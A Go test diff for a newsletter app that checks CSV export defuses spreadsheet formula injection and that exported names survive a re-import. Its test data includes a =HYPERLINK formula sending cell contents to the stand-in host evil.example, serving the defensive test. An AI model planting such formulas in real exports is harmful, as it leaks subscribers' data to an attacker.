@@ -3,11 +3,15 @@ package newsletter
 import (
 	"bytes"
 	"context"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"os"
+	"os/exec"
 	"strings"
 	"testing"
+
+	"github.com/bulletin-app/bulletin/internal/testtool"
 
 	"github.com/bulletin-app/bulletin/store"
 )
@@ -91,5 +95,69 @@ func TestImportCSV(t *testing.T) {
 	rep3, err := ImportCSV(ctx, st, open(), ImportOptions{Confirmed: true})
 	if err != nil || rep3.Added != 0 || rep3.Existing != 4 {
 		t.Fatalf("second import: %+v %v", rep3, err)
+	}
+}
+
+// TestExportDefusesFormulas: a name such as =HYPERLINK(...) typed into the
+// sign-up form was exported as is, and ran as a formula when the operator
+// opened the file in a spreadsheet. Every cell that starts with =, +, -,
+// @, tab or CR now starts with a single quote, read by Python's csv module
+// (not ours); an import of the file reads back the values themselves.
+func TestExportDefusesFormulas(t *testing.T) {
+	ctx := context.Background()
+	st := openStore(t)
+	names := map[string]string{
+		"f1@example.org":    `=HYPERLINK("https://evil.example/?d="&A2,"Click")`,
+		"f2@example.org":    "+1+2",
+		"f3@example.org":    "-2+3",
+		"f4@example.org":    "@SUM(1)",
+		"f5@example.org":    "'=already quoted",
+		"f6@example.org":    "O'Brien",
+		"f7@example.org":    "'tis me",
+		"f8@example.org":    "Plain Name",
+		"-dash@example.org": "",
+		"+plus@example.org": "",
+	}
+	for addr, name := range names {
+		if _, _, err := st.AddSubscriber(ctx, addr, name, store.StatusConfirmed); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var out bytes.Buffer
+	if _, err := ExportCSV(ctx, st, &out, ""); err != nil {
+		t.Fatal(err)
+	}
+	python := testtool.NeedPython(t, "csv")
+	cmd := exec.Command(python, "-c", `
+import csv, json, sys
+print(json.dumps([row for row in csv.reader(sys.stdin)]))`)
+	cmd.Stdin = bytes.NewReader(out.Bytes())
+	res, err := cmd.Output()
+	if err != nil {
+		t.Fatalf("python csv: %v", err)
+	}
+	var rows [][]string
+	if err := json.Unmarshal(res, &rows); err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != len(names)+1 {
+		t.Fatalf("%d rows read by Python, want %d:\n%s", len(rows), len(names)+1, out.String())
+	}
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+		}
+	}
+	st2 := openStore(t)
+	if rep, err := ImportCSV(ctx, st2, &out, ImportOptions{Confirmed: true}); err != nil || rep.Added != len(names) {
+		t.Fatalf("import of the export: %+v %v", rep, err)
+	}
+	for addr, name := range names {
+		s, err := st2.SubscriberByEmail(ctx, addr)
+		if err != nil || s.Name != name {
+			t.Errorf("%s: imported %q (%v), exported %q", addr, s.Name, err, name)
+		}
 	}
 }
